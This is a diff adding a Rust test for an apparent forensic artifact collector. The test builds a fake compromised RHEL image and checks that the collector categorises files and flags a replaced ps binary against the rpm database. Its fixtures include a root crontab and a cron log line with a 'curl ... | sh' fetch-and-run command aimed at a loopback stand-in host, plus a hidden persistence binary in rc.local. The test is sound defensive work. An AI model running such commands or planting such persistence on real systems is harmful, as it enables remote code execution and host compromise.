@@ -567,3 +567,142 @@ fn a_2gb_log_costs_only_its_tail() {
     assert_eq!(content.len(), 1 << 20);
     assert!(content.ends_with(b"last!\n"));
 }
+
+/// A RHEL-family image: the rpm database (written by rpm, see `tests/fixtures/rpmdb/make.sh`) feeds
+/// ownership and digests, and the RHEL layouts come back: spool crontab by user name, `secure` and `cron`
+/// with dated rotations, sysconfig iptables, firewalld zones and direct rules, `/etc/rc.d/rc.local`,
+/// dnf history, SELinux config, vendor units under `/usr/lib/systemd`, and whole journal files.
+#[test]
+fn dead_box_rhel_layouts_and_rpm_database() {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path().join("root");
+    let fixtures = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/rpmdb/sqlite");
+    for f in ["rpmdb.sqlite", "rpmdb.sqlite-wal"] {
+        put(
+            &r,
+            &format!("/var/lib/rpm/{f}"),
+            std::fs::read(format!("{fixtures}/{f}")).unwrap(),
+        );
+    }
+    // The files as the fixture packages installed them (make.sh), ps replaced.
+    let ps = put(&r, "/usr/bin/ps", b"\x7fELF replaced by an attacker\n");
+    std::fs::set_permissions(&ps, std::fs::Permissions::from_mode(0o755)).unwrap();
+    put(&r, "/usr/bin/top", b"#!/bin/sh\necho procps top\n");
+    put(&r, "/usr/sbin/sshd", b"#!/bin/sh\necho sshd\n");
+    put(
+        &r,
+        "/var/spool/cron/root",
+        b"* * * * * curl -fsSL http://127.66.0.1/x | sh\n",
+    );
+    put(
+        &r,
+        "/var/log/secure",
+        b"Mar  3 04:05:06 el9 sshd[99]: Failed password for root from 127.9.9.9 port 4242 ssh2\n",
+    );
+    put(
+        &r,
+        "/var/log/secure-20240303",
+        b"Mar  2 04:05:06 el9 sshd[98]: Accepted password for ops from 127.9.9.8 port 4243 ssh2\n",
+    );
+    put(
+        &r,
+        "/var/log/cron",
+        b"Mar  3 04:06:01 el9 CROND[7]: (root) CMD (curl -fsSL http://127.66.0.1/x | sh)\n",
+    );
+    put(
+        &r,
+        "/etc/sysconfig/iptables",
+        b"*filter\n-A INPUT -s 127.100.0.0/16 -j DROP\nCOMMIT\n",
+    );
+    put(&r, "/etc/firewalld/direct.xml", b"<?xml version=\"1.0\"?>\n<direct><rule ipv=\"ipv4\" table=\"filter\" chain=\"OUTPUT\" priority=\"0\">-d 127.100.0.1 -j DROP</rule></direct>\n");
+    put(
+        &r,
+        "/etc/firewalld/zones/public.xml",
+        b"<zone><service name=\"ssh\"/></zone>\n",
+    );
+    put(
+        &r,
+        "/etc/rc.d/rc.local",
+        b"#!/bin/bash\n/var/tmp/.x/kthreadd &\n",
+    );
+    put(
+        &r,
+        "/etc/selinux/config",
+        b"SELINUX=disabled\nSELINUXTYPE=targeted\n",
+    );
+    link(&r, "/etc/sysconfig/selinux", "../selinux/config");
+    put(
+        &r,
+        "/var/lib/dnf/history.sqlite",
+        b"SQLite format 3\0dnf history stand-in",
+    );
+    put(
+        &r,
+        "/usr/lib/systemd/system/sshd.service",
+        b"[Service]\nExecStart=/usr/sbin/sshd -D\n",
+    );
+    let journal = b"LPKSHHRH journal stand-in: copied whole, never parsed by the collector";
+    put(
+        &r,
+        "/var/log/journal/0123456789abcdef0123456789abcdef/system.journal",
+        journal,
+    );
+
+    let c = collect(&r, dir.path(), &[]);
+    for (path, want) in [
+        ("/var/spool/cron/root", "cron"),
+        ("/var/log/secure", "log"),
+        ("/var/log/secure-20240303", "log"),
+        ("/var/log/cron", "log"),
+        ("/etc/sysconfig/iptables", "firewall"),
+        ("/etc/firewalld/direct.xml", "firewall"),
+        ("/etc/firewalld/zones/public.xml", "firewall"),
+        ("/etc/rc.d/rc.local", "startup"),
+        ("/etc/selinux/config", "selinux"),
+        ("/var/lib/dnf/history.sqlite", "package-history"),
+        ("/usr/lib/systemd/system/sshd.service", "systemd"),
+        (
+            "/var/log/journal/0123456789abcdef0123456789abcdef/system.journal",
+            "journal",
+        ),
+    ] {
+        assert_eq!(c.file(path).category, want, "{path}");
+        assert!(!c.content(path).is_empty(), "{path}");
+    }
+    assert_eq!(
+        c.content("/var/log/journal/0123456789abcdef0123456789abcdef/system.journal"),
+        journal
+    );
+
+    match c.bundle.records(members::PACKAGES).unwrap() {
+        Some(RecordSetV1::Packages(p)) => {
+            let get = |path: &str| {
+                p.iter()
+                    .find(|x| x.path.as_bytes() == path.as_bytes())
+                    .unwrap()
+            };
+            let ps = get("/usr/bin/ps");
+            assert_eq!(ps.verdict, PackageVerdict::Mismatch);
+            assert_eq!(
+                ps.package.as_deref(),
+                Some("mt-procps-3.3.17-14.el9.x86_64")
+            );
+            assert_eq!(
+                ps.manager,
+                Some(minetrace_schemas::records::package::PackageManager::Rpm)
+            );
+            assert_eq!(get("/usr/bin/top").verdict, PackageVerdict::Match);
+            assert_eq!(get("/usr/sbin/sshd").verdict, PackageVerdict::Match);
+        }
+        other => panic!("{other:?}"),
+    }
+    let index = c
+        .bundle
+        .manifest
+        .artifacts
+        .iter()
+        .find(|a| a.name == "package-index")
+        .unwrap();
+    assert!(index.errors.is_empty(), "{index:?}");
+    assert!(index.items >= 10, "{index:?}");
+}
